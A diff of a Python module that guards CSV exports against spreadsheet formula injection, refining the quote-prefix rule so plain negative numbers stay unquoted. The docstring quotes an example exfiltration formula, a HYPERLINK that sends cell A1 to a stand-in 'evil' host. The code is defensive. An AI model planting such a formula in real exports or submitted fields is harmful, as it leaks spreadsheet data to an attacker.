@@ -3,17 +3,22 @@
 A complaint filed anonymously with the description ``=HYPERLINK("http://evil/?"&A1,"Refund")``
 becomes a live formula when an employee opens the CSV export in Excel or LibreOffice. OWASP's
 advice: prefix text cells that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a
-single quote, which spreadsheets show as text. Only text is touched: numbers (a negative amount
-exported from a ``Decimal``) stay numbers. The importers undo the prefix (``restore``), so an
+single quote, which spreadsheets show as text. A plain number is not a formula and is left as it
+is, also as text (``-15.00`` in a rejects file, a negative amount exported from a ``Decimal``):
+only a cell that is a number and nothing else (``PLAIN_NUMBER``) is exempt, so ``-1+1``,
+``+1-2`` or ``-2E3+A1`` still get the quote. The importers undo the prefix (``restore``), so an
 exported file still re-imports unchanged; a value that really starts with a quote followed by one
-of those characters gets a second quote on export, so the mapping is exact both ways.
+of those characters gets a second quote on export, so the mapping is exact both ways (``'-15``
+is written ``''-15``; ``'-15`` read back, as older exports wrote it, is ``-15``).
 """
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
 
 
 def _needs_quote(text: str) -> bool:
@@ -21,8 +26,15 @@ def _needs_quote(text: str) -> bool:
 
 
 def neutralise(value: Any) -> Any:
-    """``value`` with a leading ``'`` if it is text a spreadsheet would treat as a formula."""
-    if isinstance(value, str) and value and value[0] in "=+-@\t\r'" and _needs_quote(value):
+    """``value`` with a leading ``'`` if it is text a spreadsheet would treat as a formula (a
+    plain number such as ``-15.00`` is not one)."""
+    if (
+        isinstance(value, str)
+        and value
+        and value[0] in "=+-@\t\r'"
+        and _needs_quote(value)
+        and not (value[0] in "+-" and PLAIN_NUMBER.fullmatch(value))
+    ):
         return "'" + value
     return value
 
